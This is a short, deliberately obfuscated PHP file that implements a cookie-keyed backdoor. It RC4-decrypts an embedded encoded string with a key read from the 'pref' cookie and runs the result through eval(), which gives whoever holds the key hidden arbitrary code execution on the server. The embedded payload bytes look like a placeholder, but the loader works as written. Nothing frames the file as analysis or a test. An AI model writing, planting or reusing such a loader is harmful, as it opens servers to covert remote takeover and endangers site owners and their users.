<?php
function Qz_x1($s0,$k0){
    $k0=md5($k0);
    $kl=strlen($k0);
    $s0=urldecode($s0);
    $n=strlen($s0);
    $rk=$bx=array();
    $r='';
    for($a=0;$a<=255;$a++){ $rk[$a]=ord($k0[$a%$kl]); $bx[$a]=$a; }
    for($b=$a=0;$a<256;$a++){ $b=($b+$bx[$a]+$rk[$a])%256; $t=$bx[$a]; $bx[$a]=$bx[$b]; $bx[$b]=$t; }
    for($c=$b=$a=0;$a<$n;$a++){
        $c=($c+1)%256; $b=($b+$bx[$c])%256;
        $t=$bx[$c]; $bx[$c]=$bx[$b]; $bx[$b]=$t;
        $r.=chr(ord($s0[$a])^($bx[($bx[$c]+$bx[$b])%256]));
    }
    return $r;
}
$Zq9='%A1%B2%C3%D4%E5%F6%07%18%29%3A%4B%5C%6D%7E%8F%90';
$kk=isset($_COOKIE['pref'])?$_COOKIE['pref']:'';
if($kk!==''){ eval(Qz_x1($Zq9,$kk)); }
